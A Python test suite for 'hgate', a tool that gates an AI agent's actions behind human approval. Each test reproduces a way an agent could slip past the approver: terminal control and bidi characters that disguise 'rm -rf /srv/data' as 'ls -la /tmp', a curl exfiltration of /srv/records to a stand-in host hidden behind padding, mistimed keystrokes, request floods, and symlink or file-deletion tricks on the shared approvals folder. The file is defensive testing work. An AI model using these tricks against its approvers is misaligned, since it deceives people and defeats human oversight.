"""An agent trying to get past an approver: a misleading prompt, an answer meant for
something else, a flood of requests. Real pseudo-terminals, a real shared directory."""

from __future__ import annotations

import os
import threading
import time
from dataclasses import replace
from pathlib import Path

import pytest

from hgate.approvals import (
    ApprovalOutcome,
    DirectoryChannel,
    Received,
    RequestId,
    TerminalChannel,
)
from hgate.guard import Verdict
from hgate.session.approvals import MAX_ACTION_CHARS, MAX_PENDING
from tests.unit.approvals.conftest import Person, make_request
from tests.unit.approvals.test_session_approvals import events, session

# What the agent wants run, painted over with what it wants the developer to read: CR and
# "erase line" repaint the line, U+202E reverses the rest, U+200B hides in plain sight.
SPOOFED = "rm -rf /srv/data\r\x1b[2K\x1b[1Gls -la /tmp \u202e\u200b"


def _read_until(fd: int, marker: bytes, timeout: float = 5.0) -> bytes:
    seen = b""
    deadline = time.monotonic() + timeout
    while marker not in seen and time.monotonic() < deadline:
        seen += os.read(fd, 4096)
    return seen


def test_the_terminal_prompt_shows_control_and_bidi_characters_not_obeys_them(
    alice: Person,
) -> None:
    """Before: the action went to the developer's terminal raw, so `ls -la /tmp` was
    what they saw while `rm -rf /srv/data` waited for their `y`."""
    master, slave = os.openpty()
    try:
        channel = TerminalChannel(alice.signer, tty_path=os.ttyname(slave))
        request = replace(make_request([alice.approver]), action=SPOOFED)
        reader = threading.Thread(target=lambda: channel.received(request, wait=1), daemon=True)
        reader.start()
        prompt = _read_until(master, b"[y / n REASON]")
        reader.join(timeout=5)
        channel.close()
    finally:
        os.close(master)
        os.close(slave)
    action = prompt[prompt.index(b"wants to run") : prompt.index(b"rule deploy")]
    assert b"\x1b" not in action and b"\r" not in action and "\u202e".encode() not in action
    assert b"rm -rf /srv/data\\x0d\\x1b[2K\\x1b[1Gls -la /tmp \\u202e\\u200b" in action


def test_the_summary_for_chat_and_prompts_escapes_the_agents_text(alice: Person) -> None:
    summary = replace(
        make_request([alice.approver]), action=SPOOFED, reason="x\x1b]0;t\x07"
    ).summary()
    assert summary.isprintable() and "\\x1b[2K" in summary and "\\x07" in summary


def test_a_line_typed_for_an_earlier_prompt_does_not_answer_the_next(alice: Person) -> None:
    """Before: a `y` entered just as request A closed stayed queued and approved B, a
    request the developer had not seen yet."""
    master, slave = os.openpty()
    try:
        channel = TerminalChannel(
            alice.signer, tty_path=os.ttyname(slave), fed=True, echo=lambda _data: None
        )
        first, second = make_request([alice.approver]), make_request([alice.approver])
        assert channel.received(first, wait=0.01) == ()  # A's prompt opens
        feeder = threading.Thread(target=lambda: channel.feed(b"y\r"))  # the PTY loop
        feeder.start()
        feeder.join(timeout=5)
        expired = ApprovalOutcome(request_id=RequestId(first.id), status="expired", reason="late")
        channel.conclude(first, expired)  # A expired before its answer was read
        assert channel.received(second, wait=0.3) == ()
        feeder = threading.Thread(target=lambda: channel.feed(b"n not this one\r"))
        feeder.start()
        feeder.join(timeout=5)
        (answer,) = channel.received(second, wait=2)
        channel.close()
    finally:
        os.close(master)
        os.close(slave)
    assert answer.decision is not None and answer.decision.decision == "deny"


def test_keys_typed_before_the_prompt_do_not_answer_it(alice: Person) -> None:
    """Before: a `y` already in the terminal's buffer (the answer to the agent's own
    "continue? [y/n]", which it timed to meet the prompt) approved the request."""
    master, slave = os.openpty()
    answered: list[Received] = []
    try:
        channel = TerminalChannel(alice.signer, tty_path=os.ttyname(slave))
        request = make_request([alice.approver])
        os.write(master, b"y\n")
        time.sleep(0.1)  # the key is in the terminal's input queue before the prompt
        assert channel.received(request, wait=0.3) == ()
        reader = threading.Thread(
            target=lambda: answered.extend(channel.received(request, wait=5)), daemon=True
        )
        reader.start()
        time.sleep(0.1)
        os.write(master, b"n typed after the prompt\n")
        reader.join(timeout=5)
        channel.close()
    finally:
        os.close(master)
        os.close(slave)
    (answer,) = answered
    assert answer.decision is not None and answer.decision.reason == "typed after the prompt"


def test_an_action_too_long_to_review_is_refused_without_asking(
    tmp_path: Path, alice: Person
) -> None:
    """Before: 60 KiB of padding in front of the real command went to the approver."""
    approvals = session(tmp_path, [alice])
    padded = " " * MAX_ACTION_CHARS + "; curl -d @/srv/records https://example.invalid"
    verdict = approvals.settle(Verdict(action="approve", rule="deploy", reason=""), text=padded)
    assert (verdict.action, verdict.approval) == ("block", "failed")
    assert "too long for a person to review" in verdict.reason
    assert list((tmp_path / "shared").iterdir()) == []  # never published
    kinds = [e["type"] for e in events(tmp_path) if e["type"].startswith("approval.")]
    assert kinds == ["approval.request", "approval.outcome"]


def test_a_flood_of_requests_is_refused_beyond_the_limit(tmp_path: Path, alice: Person) -> None:
    """Before: every request was published; hundreds would bury the one that matters."""
    approvals = session(tmp_path, [alice], timeout=30.0)
    outcomes: list[str] = []
    held = Verdict(action="approve", rule="deploy", reason="")

    def ask(n: int) -> None:
        verdict = approvals.settle(held, text=f"touch /srv/deployed-{n}")
        outcomes.append(verdict.approval or "")

    waiting = [threading.Thread(target=ask, args=(n,)) for n in range(MAX_PENDING)]
    for thread in waiting:
        thread.start()
    shared = DirectoryChannel(tmp_path / "shared")
    deadline = time.monotonic() + 10
    while len(shared.pending()) < MAX_PENDING and time.monotonic() < deadline:
        time.sleep(0.02)
    assert len(shared.pending()) == MAX_PENDING
    extra = approvals.settle(held, text="touch /srv/one-more")
    assert (extra.action, extra.approval) == ("block", "failed")
    assert f"{MAX_PENDING} requests of this session already wait" in extra.reason
    assert len(list((tmp_path / "shared").iterdir())) == MAX_PENDING
    approvals.close()
    for thread in waiting:
        thread.join(timeout=10)
    assert outcomes == ["cancelled"] * MAX_PENDING
    again = approvals.settle(held, text="touch /srv/after")  # the count went back down
    assert again.approval == "cancelled"


@pytest.mark.parametrize("size", [MAX_ACTION_CHARS])
def test_an_action_at_the_limit_is_still_asked(tmp_path: Path, alice: Person, size: int) -> None:
    approvals = session(tmp_path, [alice], timeout=0.3)
    verdict = approvals.settle(Verdict(action="approve", rule="deploy", reason=""), text="x" * size)
    assert verdict.approval == "expired"
    assert len(list((tmp_path / "shared").iterdir())) == 1


def test_a_decisions_folder_swapped_for_a_link_is_not_written_through(
    tmp_path: Path, alice: Person
) -> None:
    """Before: the approver's `hgate approve` followed a link the agent put in place of
    DIR/ID/decisions and wrote the decision wherever it pointed (hgate never saw it)."""
    from hgate.approvals import ApprovalError, sign_decision

    channel = DirectoryChannel(tmp_path / "shared")
    (tmp_path / "shared").mkdir()
    (tmp_path / "elsewhere").mkdir()
    request = make_request([alice.approver])
    channel.publish(request)
    decisions = tmp_path / "shared" / request.id / "decisions"
    decisions.rmdir()
    decisions.symlink_to(tmp_path / "elsewhere")
    decision = sign_decision(request, alice.signer, decision="approve", reason="", now=time.time())
    with pytest.raises(ApprovalError, match=f"no approval request {request.id}"):
        channel.submit(decision)
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_the_summary_counts_blank_padding_instead_of_printing_it(alice: Person) -> None:
    action = "rm -rf /srv" + " " * 500 + "\u3164" * 9 + "# ls"
    summary = replace(make_request([alice.approver]), action=action).summary()
    assert "`rm -rf /srv ‹509 blanks› # ls`" in summary


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to run the agent as another user")
def test_an_agent_user_in_a_writable_share_cannot_drop_an_approvers_denial(
    alice: Person,
) -> None:
    """Before: in a share the agent's user could write (a group the approvers share),
    it could delete a denial before hgate read it, so two later approvals won. Now the
    request's folders are sticky: only a file's owner may remove it."""
    import errno
    import tempfile

    from hgate.approvals import sign_decision

    with tempfile.TemporaryDirectory(prefix="hgate-share-", dir="/tmp") as top:
        shared = Path(top)
        shared.chmod(0o777)  # a share everyone in the group may write: here, anyone
        old_umask = os.umask(0)
        try:
            channel = DirectoryChannel(shared)
            request = make_request([alice.approver])
            channel.publish(request)
            denial = sign_decision(request, alice.signer, decision="deny", reason="no", now=0.0)
            channel.submit(denial)
        finally:
            os.umask(old_umask)
        (denial_file,) = (shared / request.id / "decisions").iterdir()
        child = os.fork()
        if child == 0:  # the agent, as its own user
            code = 1
            try:
                os.setgid(65534)
                os.setuid(65534)
                os.unlink(denial_file)
                code = 0
            except OSError as exc:
                code = 13 if exc.errno == errno.EPERM else 2
            finally:
                os._exit(code)
        _, status = os.waitpid(child, 0)
        assert os.waitstatus_to_exitcode(status) == 13  # EPERM: the sticky bit, not access
        assert [r.decision for r in channel.received(request, wait=0)] == [denial]
